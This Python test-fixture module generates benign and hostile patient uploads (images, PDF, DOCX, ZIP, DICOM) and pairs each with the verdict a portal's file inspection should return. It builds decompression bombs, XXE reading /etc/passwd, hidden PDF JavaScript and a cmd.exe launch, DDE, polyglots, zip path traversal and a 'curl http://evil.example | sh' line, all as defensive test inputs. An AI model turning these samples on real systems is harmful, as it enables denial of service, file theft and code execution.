"""Papers of patients, good and hostile, made by code: what each one is, and what an inspection says of it."""

import random
import re
import struct
import zlib
from collections.abc import Callable, Iterable
from functools import cache
from io import BytesIO
from typing import Any
from zipfile import ZIP_DEFLATED, ZIP_STORED, ZipFile

import numpy as np
import pillow_heif
import pydicom
from PIL import Image
from pydicom.dataset import Dataset, FileMetaDataset
from pydicom.encaps import encapsulate
from pydicom.uid import (
    CTImageStorage,
    DeflatedExplicitVRLittleEndian,
    ExplicitVRLittleEndian,
    JPEG2000Lossless,
    JPEGBaseline8Bit,
    RLELossless,
    generate_uid,
)

from portal.core.inspection import Kind, Reason

Expected = Kind | Reason

# ── Pictures ─────────────────────────────────────────────────────────────────────────────────


def picture(width: int = 300, height: int = 200) -> Image.Image:
    """Return a picture that no encoder makes nothing of."""
    across = np.linspace(0, 255, width, dtype=np.uint8)
    down = np.linspace(0, 255, height, dtype=np.uint8)
    layers = np.stack(np.broadcast_arrays(across, down[:, None], across ^ down[:, None]), axis=-1)
    return Image.fromarray(np.ascontiguousarray(layers))


def encode(image: Image.Image, kind: str, **options: Any) -> bytes:
    buffer = BytesIO()
    image.save(buffer, kind, **options)
    return buffer.getvalue()


@cache
def jpeg() -> bytes:
    exif = Image.Exif()
    exif[0x010E] = "Fatima's kitchen"
    exif[0x0112] = 6  # held upright
    return encode(picture(), "JPEG", exif=exif)


@cache
def progressive() -> bytes:
    return encode(picture(), "JPEG", progressive=True)


@cache
def png() -> bytes:
    return encode(picture(), "PNG")


@cache
def heic() -> bytes:
    buffer = BytesIO()
    pillow_heif.from_pillow(picture()).save(buffer, quality=60)
    return buffer.getvalue()


def chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def png_of(width: int, height: int, *chunks: bytes, pixels: bytes = b"") -> bytes:
    """Return a PNG that claims a size and holds whatever it holds."""
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(chunks) + chunk(b"IDAT", zlib.compress(pixels)) + chunk(b"IEND", b"")


def jpeg_of(width: int, height: int) -> bytes:
    """Return a JPEG whose head names another size."""
    size = struct.pack(">HH", height, width)
    return re.sub(rb"(\xff\xc0..\x08)....", lambda found: found[1] + size, encode(picture(), "JPEG"), flags=re.DOTALL)


def png_of_text_bombs() -> bytes:
    text = b"Comment\x00\x00" + zlib.compress(bytes(2_000_000))
    return png_of(1, 1, *[chunk(b"zTXt", text)] * 100, pixels=bytes(4))


def scan_bomb() -> bytes:
    """Return a progressive JPEG whose last pass is there 5,000 times: small to send, minutes to decode."""
    data = encode(Image.new("L", (2000, 2000), 128), "JPEG", progressive=True)
    return data[:-2] + data[data.rfind(b"\xff\xda") : -2] * 5000 + data[-2:]


def jpeg_with_comment(comment: bytes) -> bytes:
    return jpeg()[:2] + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + jpeg()[2:]


# ── PDF ──────────────────────────────────────────────────────────────────────────────────────


def stream(content: bytes, words: str = "") -> bytes:
    return f"<< /Length {len(content)} {words}>>\nstream\n".encode() + content + b"\nendstream"


def pdf_of(objects: Iterable[bytes], trailer: str = "") -> bytes:
    """Return a PDF of these objects, of which the first is the catalogue."""
    body, places = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, 1):
        places.append(len(body))
        body += f"{number} 0 obj\n".encode() + content + b"\nendobj\n"
    table = "".join(f"{place:010} 00000 n \n" for place in places)
    end = f"xref\n0 {len(places) + 1}\n0000000000 65535 f \n{table}"
    end += f"trailer\n<< /Size {len(places) + 1} /Root 1 0 R {trailer}>>\nstartxref\n{len(body)}\n%%EOF\n"
    return body + end.encode()


def pdf(
    catalogue: str = "", *more: bytes, box: str = "0 0 595 842", pages: int = 1, content: bytes = b"", words: str = ""
) -> bytes:
    """Return a PDF whose pages show a rectangle; further objects begin at 5."""
    shown = content or b"1 0 0 rg 100 100 300 500 re f"
    kids = " ".join(["3 0 R"] * pages)
    return pdf_of(
        [
            f"<< /Type /Catalog /Pages 2 0 R {catalogue}>>".encode(),
            f"<< /Type /Pages /Count {pages} /Kids [{kids}] >>".encode(),
            f"<< /Type /Page /Parent 2 0 R /MediaBox [{box}] /Contents 4 0 R >>".encode(),
            stream(shown, words),
            *more,
        ]
    )


def pdf_of_many_pages(count: int) -> bytes:
    """Return a PDF of so many pages, each an object of its own."""
    kids = " ".join(f"{number} 0 R" for number in range(3, count + 3))
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] >>"
    pages = f"<< /Type /Pages /Count {count} /Kids [{kids}] >>".encode()
    return pdf_of([b"<< /Type /Catalog /Pages 2 0 R >>", pages, *[page] * count])


def pdf_with_hidden_script() -> bytes:
    """Return a PDF whose script stands in a compressed object stream, with its name in hexadecimal."""
    hidden = b"5 0 << /S /J#61vaScript /#4a#53 (app.alert(1)) >>"
    packed = zlib.compress(hidden)
    numbers = [b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
               b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] >>",
               stream(packed, "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode ")]  # fmt: skip
    body, places = b"%PDF-1.7\n", []
    for number, content in enumerate(numbers, 1):
        places.append(len(body))
        body += f"{number} 0 obj\n".encode() + content + b"\nendobj\n"
    rows = [(0, 0, 255), *((1, place, 0) for place in places), (2, 4, 0), (1, len(body), 0)]
    table = b"".join(struct.pack(">BHB", *row) for row in rows)
    return (
        body
        + b"6 0 obj\n"
        + stream(table, "/Type /XRef /Size 7 /W [1 2 1] /Root 1 0 R ")
        + f"\nendobj\nstartxref\n{len(body)}\n%%EOF\n".encode()
    )


def pdf_with_password(password: str) -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(PdfReader(BytesIO(pdf())))
    writer.encrypt(password, "owner", algorithm="RC4-128")
    buffer = BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def pdf_with_bomb() -> bytes:
    """Return a PDF whose page unpacks to 30 MB of nothing, packed twice."""
    packed = zlib.compress(zlib.compress(b" " * 30_000_000, 9), 9)
    return pdf(content=packed, words="/Filter [/FlateDecode /FlateDecode] ")


# ── ZIP and DOCX ─────────────────────────────────────────────────────────────────────────────


def zipped(members: dict[str, bytes], method: int = ZIP_DEFLATED) -> bytes:
    buffer = BytesIO()
    with ZipFile(buffer, "w", method) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def locked_zip() -> bytes:
    """Return a ZIP whose member says that it is encrypted, in both places."""
    data = bytearray(zipped({"study/1.dcm": dicom()}, ZIP_STORED))
    directory = data.rindex(b"PK\x01\x02")
    data[6] |= 1
    data[directory + 8] |= 1
    return bytes(data)


def repeated(times: int, content: bytes) -> bytes:
    """Return a ZIP whose directory names one member many times."""
    data = zipped({"1.dcm": content}, ZIP_STORED)
    end, directory = data.rindex(b"PK\x05\x06"), data.rindex(b"PK\x01\x02")
    rows = data[directory:end] * times
    tail = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, times, times, len(rows), directory, 0)
    return data[:directory] + rows + tail


WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml"
TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Override PartName="/word/document.xml" ContentType="{}"/></Types>'
)
RELATIONS = '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
BODY = (
    '<?xml version="1.0" encoding="UTF-8"?>{}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    "<w:body><w:p><w:r>{}</w:r></w:p></w:body></w:document>"
)


def relation(kind: str, target: str, mode: str = "") -> str:
    return f'<Relationship Id="rId1" Type="{OFFICE}/{kind}" Target="{target}" {mode}/>'


OUTSIDE = 'TargetMode="External"'


def docx(
    members: dict[str, bytes] | None = None,
    *,
    kind: str = f"{WORD}.document.main+xml",
    related: str = "",
    declared: str = "",
    run: str = "<w:t>Pathology, الخزعة, биопсия</w:t>",
) -> bytes:
    parts = {
        "[Content_Types].xml": TYPES.format(kind).encode(),
        "_rels/.rels": RELATIONS.format(relation("officeDocument", "word/document.xml")).encode(),
        "word/document.xml": BODY.format(declared, run).encode(),
        "word/_rels/document.xml.rels": RELATIONS.format(related).encode(),
        "word/media/image1.png": png(),
    }
    return zipped(parts | (members or {}))


# ── DICOM ────────────────────────────────────────────────────────────────────────────────────


def data_set(
    *, number: int = 1, frames: int = 1, series: str = "1.2.3.4", pixels: bytes | None = None, **words: Any
) -> Dataset:
    made = Dataset()
    made.SOPClassUID, made.SOPInstanceUID = CTImageStorage, generate_uid(entropy_srcs=[series, str(number)])
    made.Modality, made.BodyPartExamined, made.StudyDate = "CT", "CHEST", "20261104"
    made.PatientName, made.SeriesInstanceUID, made.InstanceNumber = "IVANOVA^ANNA", series, number
    made.SamplesPerPixel, made.PhotometricInterpretation = 1, "MONOCHROME2"
    made.Rows, made.Columns, made.BitsAllocated, made.BitsStored, made.HighBit = 64, 48, 16, 12, 11
    made.PixelRepresentation, made.NumberOfFrames = 0, frames
    made.RescaleIntercept, made.RescaleSlope, made.WindowCenter, made.WindowWidth = -1024, 1, 40, 400
    ramp = np.arange(64 * 48, dtype="<u2").reshape(64, 48)
    made.PixelData = b"".join((ramp + frame).tobytes() for frame in range(frames)) if pixels is None else pixels
    for name, value in words.items():
        setattr(made, name, value)
    return made


def saved(made: Dataset, syntax: str = ExplicitVRLittleEndian, preamble: bytes = bytes(128)) -> bytes:
    made.file_meta = getattr(made, "file_meta", None) or FileMetaDataset()
    if "TransferSyntaxUID" not in made.file_meta:
        made.file_meta.TransferSyntaxUID = syntax
    made.file_meta.MediaStorageSOPClassUID = made.SOPClassUID
    made.file_meta.MediaStorageSOPInstanceUID = made.SOPInstanceUID
    made.preamble = preamble
    buffer = BytesIO()
    pydicom.dcmwrite(buffer, made, enforce_file_format=True)
    return buffer.getvalue()


def dicom(**words: Any) -> bytes:
    return saved(data_set(**words))


@cache
def run_lengths(frames: int = 3) -> bytes:
    """Return a study compressed as RLE."""
    made = data_set(frames=frames)
    made.file_meta = FileMetaDataset()
    made.file_meta.TransferSyntaxUID = ExplicitVRLittleEndian
    made.set_original_encoding(False, True)
    made.compress(RLELossless)
    return saved(made)


@cache
def of_pictures(kind: str, syntax: str, frames: int = 3) -> bytes:
    """Return a study whose frames are pictures in a format of Pillow."""
    frame = encode(picture(48, 64).convert("L"), kind)
    made = data_set(frames=frames, pixels=encapsulate([frame] * frames), BitsAllocated=8, BitsStored=8, HighBit=7)
    made["PixelData"].VR = "OB"
    made["PixelData"].is_undefined_length = True
    return saved(made, syntax)


def without_modality() -> bytes:
    made = data_set()
    del made.Modality
    return saved(made)


def without_end() -> bytes:
    """Return a study whose compressed pixels lack the mark of their end, as some programs write it."""
    data = of_pictures("JPEG", JPEGBaseline8Bit)
    return data[: data.rindex(b"\xfe\xff\xdd\xe0")]


def without_preamble() -> bytes:
    buffer = BytesIO()
    data_set().save_as(buffer, implicit_vr=True, little_endian=True)
    return buffer.getvalue()


def report() -> bytes:
    """Return a structured report: DICOM without pixels."""
    made = Dataset()
    made.SOPClassUID, made.SOPInstanceUID = "1.2.840.10008.5.1.4.1.1.88.11", generate_uid(entropy_srcs=["report"])
    made.Modality, made.PatientName, made.StudyDate = "SR", "IVANOVA^ANNA", "20261104"
    made.ContentSequence = [Dataset()]
    made.ContentSequence[0].TextValue = "A report. " * 60
    return saved(made)


def disc_contents() -> bytes:
    made = Dataset()
    made.SOPClassUID, made.SOPInstanceUID = "1.2.840.10008.1.3.10", generate_uid(entropy_srcs=["disc"])
    return saved(made)


@cache
def deflated(megabytes: int = 0) -> bytes:
    made = data_set(pixels=bytes(megabytes * 1_000_000) if megabytes else None)
    return saved(made, DeflatedExplicitVRLittleEndian)


def disc(slices: int = 5, more: dict[str, bytes] | None = None) -> bytes:
    """Return a CD as clinics burn it."""
    members = {f"DICOM/IM{number:04}": dicom(number=number) for number in range(1, slices + 1)}
    others = {
        "DICOMDIR": disc_contents(),
        "DICOM/SCOUT": dicom(series="1.2.3.5"),
        "VIEWER/viewer.exe": PE,
        "AUTORUN.INF": b"[autorun]\nopen=VIEWER\\viewer.exe\n",
        "index.html": b"<html>",
        "inside.zip": zipped({"1.dcm": dicom()}),
    }
    return zipped(members | others | (more or {}))


# ── Programs and others ──────────────────────────────────────────────────────────────────────

PE = b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + bytes(400)
ELF = b"\x7fELF\x02\x01\x01" + bytes(600)
LNK = b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F" + bytes(100)
SHELL = b"#!/bin/sh\ncurl http://evil.example | sh\n"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000)
# In two halves, so that no scanner takes this file for what it makes.
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-" + b"STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!DOCTYPE html><script>alert(document.cookie)</script>"
BILLION = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
XXE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
NOISE = random.Random(15).randbytes(100_000)

GOOD: dict[str, tuple[Callable[[], bytes], Kind]] = {
    "photo.jpg": (jpeg, Kind.JPEG),
    "progressive.jpg": (progressive, Kind.JPEG),
    "scan.png": (png, Kind.PNG),
    "iphone.heic": (heic, Kind.HEIC),
    "report.pdf": (lambda: pdf(pages=3), Kind.PDF),
    "letter.docx": (docx, Kind.DOCX),
    "slice.dcm": (dicom, Kind.DICOM),
    "frames.dcm": (lambda: dicom(frames=5), Kind.DICOM),
    "rle.dcm": (run_lengths, Kind.DICOM),
    "jpeg.dcm": (lambda: of_pictures("JPEG", JPEGBaseline8Bit), Kind.DICOM),
    "jpeg2000.dcm": (lambda: of_pictures("JPEG2000", JPEG2000Lossless), Kind.DICOM),
    "deflated.dcm": (deflated, Kind.DICOM),
    "no-preamble.dcm": (without_preamble, Kind.DICOM),
    "report.dcm": (report, Kind.DICOM),
    "cd.zip": (disc, Kind.DICOM_ZIP),
}

# What is taken although somebody may mean harm: the portal shows its preview alone, made anew of pixels.
HARMLESS: dict[str, tuple[Callable[[], bytes], Kind]] = {
    "a script in a comment.jpg": (lambda: jpeg_with_comment(b"<script>alert(1)</script><?php system('id'); ?>"), Kind.JPEG),
    "a program behind a photo.jpg": (lambda: jpeg() + PE, Kind.JPEG),
    "eicar in a comment.jpg": (lambda: jpeg_with_comment(EICAR), Kind.JPEG),
    "a link in a document.docx": (lambda: docx(related=relation("hyperlink", "https://x.example", OUTSIDE)), Kind.DOCX),
    "a huge page.pdf": (lambda: pdf(box="0 0 200000 200000"), Kind.PDF),
    "a page like a thread.pdf": (lambda: pdf(box="0 0 1 200000"), Kind.PDF),
    "a page without a size.pdf": (lambda: pdf(box="0 0 0 0"), Kind.PDF),
    "a page of 30 MB of spaces.pdf": (pdf_with_bomb, Kind.PDF),
    "the name of a script in a picture.pdf": (lambda: pdf(content=b"% /JavaScript /Launch /EmbeddedFile "), Kind.PDF),
    "names like those of scripts.pdf": (
        lambda: pdf("/Names << /EmbeddedFiles << /Names [] >> >> /EFX /JSON /Launcher ", b"<< /JavaScripts 1 >>"),
        Kind.PDF,
    ),
    "no user password.pdf": (lambda: pdf_with_password(""), Kind.PDF),
    "a path for a name.zip": (lambda: zipped({"../../etc/cron.d/x": dicom(), "/etc/passwd": b"root"}), Kind.DICOM_ZIP),
    "names in every script.zip": (
        lambda: zipped({"снимок\u202egpj.dcm": dicom(), "صورة\x01" * 50: dicom(number=2), "断层" * 90: b"?"}),
        Kind.DICOM_ZIP,
    ),
    "a TIFF in the preamble.dcm": (lambda: saved(data_set(), preamble=b"II*\0" + bytes(124)), Kind.DICOM),
    "control characters in the name.dcm": (lambda: dicom(PatientName="A\x1b[2J\x00B^<script>"), Kind.DICOM),
    "no modality.dcm": (without_modality, Kind.DICOM),
    "no mark of the end.dcm": (without_end, Kind.DICOM),
    "a text for a day.dcm": (lambda: dicom().replace(b"20261104", b"20269999"), Kind.DICOM),
    "pixels of another codec.dcm": (lambda: run_lengths().replace(b"1.2.840.10008.1.2.5", b"1.2.840.10008.1.2.9"), Kind.DICOM),
}  # fmt: skip

HOSTILE: dict[str, tuple[Callable[[], bytes], Reason]] = {
    # Nothing, and nearly nothing
    "nothing": (lambda: b"", Reason.EMPTY),
    "one byte": (lambda: b"\xff", Reason.UNKNOWN),
    "three bytes of a JPEG": (lambda: b"\xff\xd8\xff", Reason.BROKEN),
    "eight bytes of a PNG": (lambda: png()[:8], Reason.BROKEN),
    "spaces": (lambda: b" " * 5000, Reason.UNKNOWN),
    "zeros": (lambda: bytes(5000), Reason.UNKNOWN),
    "noise": (lambda: NOISE, Reason.UNKNOWN),
    "noise after the head of a JPEG": (lambda: b"\xff\xd8\xff\xe0" + NOISE, Reason.BROKEN),
    "noise after the head of a PNG": (lambda: png()[:40] + NOISE, Reason.BROKEN),
    "noise after the head of a HEIC": (lambda: heic()[:40] + NOISE, Reason.BROKEN),
    "noise after the head of a PDF": (lambda: b"%PDF-1.7\n" + NOISE, Reason.CUT_OFF),
    "noise between head and end of a PDF": (lambda: b"%PDF-1.7\n" + NOISE + b"%%EOF", Reason.BROKEN),
    "noise after the head of a ZIP": (lambda: b"PK\x03\x04" + NOISE, Reason.CUT_OFF),
    "noise after the preamble": (lambda: bytes(128) + b"DICM" + NOISE, Reason.CUT_OFF),
    "noise that may lack a preamble": (lambda: b"\x08\x00\x05\x00" + NOISE, Reason.UNKNOWN),
    # Programs and texts
    "ELF": (lambda: ELF, Reason.PROGRAM),
    "PE": (lambda: PE, Reason.PROGRAM),
    "shell script": (lambda: SHELL, Reason.PROGRAM),
    "LNK": (lambda: LNK, Reason.PROGRAM),
    "Java class": (lambda: b"\xca\xfe\xba\xbe" + bytes(100), Reason.PROGRAM),
    "EICAR": (lambda: EICAR, Reason.UNKNOWN),
    "EICAR in a ZIP": (lambda: zipped({"eicar.com": EICAR}), Reason.PROGRAM),
    "SVG": (lambda: SVG, Reason.WEB_PAGE),
    "SVG after XML": (lambda: b"\xef\xbb\xbf<?xml version='1.0'?>" + SVG, Reason.WEB_PAGE),
    "SVG in UTF-16": (lambda: SVG.decode().encode("utf-16"), Reason.WEB_PAGE),
    "HTML": (lambda: b"\n\n" + HTML, Reason.WEB_PAGE),
    "PDF behind HTML": (lambda: HTML + pdf(), Reason.WEB_PAGE),
    "old Word": (lambda: OLE, Reason.OLD_OFFICE),
    "RTF": (lambda: b"{\\rtf1\\ansi{\\object\\objdata 01}}", Reason.OLD_OFFICE),
    "ODT": (lambda: zipped({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<x/>"}, ZIP_STORED), Reason.OLD_OFFICE),
    "XLSX": (lambda: zipped({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<x/>"}), Reason.OLD_OFFICE),
    "PPTX": (lambda: zipped({"[Content_Types].xml": b"<Types/>", "ppt/presentation.xml": b"<x/>"}), Reason.OLD_OFFICE),
    "GIF": (lambda: encode(picture(), "GIF"), Reason.UNKNOWN),
    "TIFF": (lambda: encode(picture(), "TIFF"), Reason.UNKNOWN),
    "EPS": (lambda: encode(picture(), "EPS"), Reason.UNKNOWN),
    "MP4": (lambda: b"\0\0\0\x20ftypisom" + bytes(2000), Reason.UNKNOWN),
    # Bombs
    "PNG of 50,000 × 50,000": (lambda: png_of(50_000, 50_000), Reason.TOO_MANY_PIXELS),
    "PNG of 2³¹ × 1": (lambda: png_of(2**31 - 1, 1), Reason.TOO_MANY_PIXELS),
    "PNG of 0 × 0": (lambda: png_of(0, 0), Reason.BROKEN),
    "PNG with bombs in its texts": (png_of_text_bombs, Reason.BROKEN),
    "JPEG of 65,500 × 65,500": (lambda: jpeg_of(65_500, 65_500), Reason.TOO_MANY_PIXELS),
    "ZIP bomb": (lambda: zipped({"1.dcm": bytes(25_000_000)}), Reason.UNPACKS_TOO_LARGE),
    "ZIP of bombs": (lambda: zipped({f"{n}.zip": zipped({"x": bytes(1_000_000)}) for n in range(5)}), Reason.ARCHIVE),
    "ZIP with members over each other": (lambda: repeated(500, dicom()), Reason.UNPACKS_TOO_LARGE),
    "ZIP of 21,000 members": (lambda: repeated(21_000, b""), Reason.TOO_MANY_MEMBERS),
    "DOCX bomb": (lambda: docx({"word/media/bomb.png": bytes(25_000_000)}), Reason.UNPACKS_TOO_LARGE),
    "DOCX with entities": (lambda: docx(declared=BILLION), Reason.ACTIVE),
    "PDF of 2,001 pages": (lambda: pdf_of_many_pages(2001), Reason.TOO_MANY_PAGES),
    "PDF whose tree of pages is a circle": (lambda: pdf().replace(b"/Kids [3 0 R]", b"/Kids [2 0 R]"), Reason.BROKEN),
    "deflated DICOM bomb": (lambda: deflated(25), Reason.UNPACKS_TOO_LARGE),
    "deflated DICOM bomb in a ZIP": (lambda: zipped({"1.dcm": deflated(25)}, ZIP_STORED), Reason.UNPACKS_TOO_LARGE),
    "DICOM of 65,535 × 65,535": (lambda: dicom(Rows=65_535, Columns=65_535), Reason.TOO_MANY_PIXELS),
    "DICOM of 2³¹ frames": (lambda: dicom(NumberOfFrames=2**31 - 1), Reason.TOO_MANY_PAGES),
    "DICOM of more frames than it has": (lambda: dicom(NumberOfFrames=500), Reason.CUT_OFF),
    "DICOM with a length of 4 GB": (
        lambda: dicom(StudyDescription="x" * 20).replace(b"LO\x14\0" + b"x" * 20, b"UT\0\0" + b"\xf0\xff\xff\xff" + b"x" * 16),
        Reason.CUT_OFF,
    ),
    # Two kinds at the same time
    "JPEG with the head of a PDF": (lambda: jpeg_with_comment(b"%PDF-1.4"), Reason.TWO_IN_ONE),
    "JPEG and ZIP": (lambda: jpeg() + zipped({"x.exe": PE}), Reason.TWO_IN_ONE),
    "PNG and ZIP": (lambda: png() + zipped({"1.dcm": dicom()}), Reason.TWO_IN_ONE),
    "PDF and ZIP": (lambda: pdf() + zipped({"x.jar": PE}), Reason.TWO_IN_ONE),
    "ZIP and PDF": (lambda: zipped({"a.pdf": pdf()}, ZIP_STORED), Reason.TWO_IN_ONE),
    "DICOM and PDF": (lambda: saved(data_set(), preamble=b"%PDF-1.4\n".ljust(128)), Reason.TWO_IN_ONE),
    "DICOM and ZIP": (lambda: dicom() + zipped({"1.dcm": dicom()}), Reason.TWO_IN_ONE),
    "DICOM and PE": (lambda: saved(data_set(), preamble=PE[:128]), Reason.PROGRAM),
    "DICOM and ELF": (lambda: saved(data_set(), preamble=ELF[:128]), Reason.PROGRAM),
    "DICOM and shell": (lambda: saved(data_set(), preamble=SHELL.ljust(128, b"\n")), Reason.PROGRAM),
    "DICOM and HTML": (lambda: saved(data_set(), preamble=HTML.ljust(128)), Reason.WEB_PAGE),
    "DOCX and DICOM": (lambda: docx({"1.dcm": dicom()}), Reason.TWO_IN_ONE),
    "PE and ZIP": (lambda: PE + zipped({"1.dcm": dicom()}), Reason.PROGRAM),
    "text before a PDF": (lambda: b"HTTP/1.1 200 OK\n" + pdf(), Reason.UNKNOWN),
    # PDF
    "PDF with a script": (lambda: pdf("/OpenAction 5 0 R ", b"<< /S /JavaScript /JS (app.alert(1)) >>"), Reason.ACTIVE),
    "PDF with a script in an object stream": (pdf_with_hidden_script, Reason.ACTIVE),
    "PDF that starts a program": (lambda: pdf("/OpenAction 5 0 R ", b"<< /S /Launch /F (cmd.exe) >>"), Reason.ACTIVE),
    "PDF with a file in it": (
        lambda: pdf("/Names << /EmbeddedFiles << /Names [(x.exe) 5 0 R] >> >> ", b"<< /Type /Filespec /F (x.exe) /EF << /F 6 0 R >> >>", stream(PE, "/Type /EmbeddedFile ")),
        Reason.ACTIVE,
    ),
    "PDF with a password": (lambda: pdf_with_password("secret"), Reason.LOCKED),
    "PDF without pages": (lambda: pdf(pages=0), Reason.BROKEN),
    # ZIP and DOCX
    "ZIP of photos": (lambda: zipped({"1.jpg": jpeg(), "2.jpg": jpeg()}), Reason.ARCHIVE),
    "ZIP of nothing": (lambda: zipped({}), Reason.ARCHIVE),
    "ZIP of a program": (lambda: zipped({"setup.exe": PE}), Reason.PROGRAM),
    "ZIP with a password": (locked_zip, Reason.LOCKED),
    "ZIP in ZIP in ZIP": (lambda: zipped({"a.zip": zipped({"b.zip": zipped({"1.dcm": dicom()})})}), Reason.ARCHIVE),
    "ZIP of DICOM and PDF at once": (
        lambda: zipped({"1.dcm": saved(data_set(), preamble=b"%PDF-1.4\n".ljust(128))}),
        Reason.ARCHIVE,
    ),
    "ZIP of a broken slice": (lambda: zipped({"1.dcm": dicom()[:-900]}), Reason.CUT_OFF),
    "RAR": (lambda: b"Rar!\x1a\x07\x01\0" + NOISE, Reason.ARCHIVE),
    "7z": (lambda: b"7z\xbc\xaf\x27\x1c" + NOISE, Reason.ARCHIVE),
    "gzip": (lambda: zlib.compress(NOISE, wbits=31), Reason.ARCHIVE),
    "DICOMDIR alone": (disc_contents, Reason.DISC_CONTENTS),
    "DOCX with macros": (lambda: docx({"word/vbaProject.bin": OLE}), Reason.ACTIVE),
    "DOCX of the kind with macros": (lambda: docx(kind="application/vnd.ms-word.document.macroEnabled.main+xml"), Reason.ACTIVE),
    "DOCX with a file in it": (lambda: docx({"word/embeddings/oleObject1.bin": OLE}), Reason.ACTIVE),
    "DOCX with ActiveX": (lambda: docx({"word/activeX/activeX1.xml": b"<x/>"}), Reason.ACTIVE),
    "DOCX with a template outside": (lambda: docx(related=relation("attachedTemplate", "https://evil.example/t.dotm", OUTSIDE)), Reason.ACTIVE),
    "DOCX with a picture outside": (lambda: docx(related=relation("image", "https://evil.example/1.png", OUTSIDE)), Reason.ACTIVE),
    "DOCX that reads a file": (lambda: docx(declared=XXE, run="&a;"), Reason.ACTIVE),
    "DOCX that reads a file, in UTF-16": (
        lambda: docx({"docProps/app.xml": f'<?xml version="1.0" encoding="UTF-16"?>{XXE}<x>&a;</x>'.encode("utf-16")}),
        Reason.ACTIVE,
    ),
    "DOCX with DDE": (lambda: docx(run="<w:instrText>DDEA</w:instrText><w:instrText>UTO c:\\\\cmd.exe</w:instrText>"), Reason.ACTIVE),
    "DOCX with a chunk of HTML": (lambda: docx(related=relation("aFChunk", "chunk.html")), Reason.ACTIVE),
    "DOCX of broken XML": (lambda: docx({"word/styles.xml": b"<a><b></a>"}), Reason.BROKEN),
}  # fmt: skip


def cut_pieces() -> dict[str, tuple[bytes, tuple[Reason, ...]]]:
    """Return each good file, cut at each quarter, and what may be said of it."""
    said = (Reason.CUT_OFF, Reason.BROKEN, Reason.UNKNOWN)
    return {
        f"{name}, {quarter} of 4": (data[: len(data) * quarter // 4], said)
        for name, (make, _kind) in GOOD.items()
        for data in [make()]
        for quarter in (1, 2, 3)
    }


__all__ = ["GOOD", "HARMLESS", "HOSTILE", "cut_pieces"]
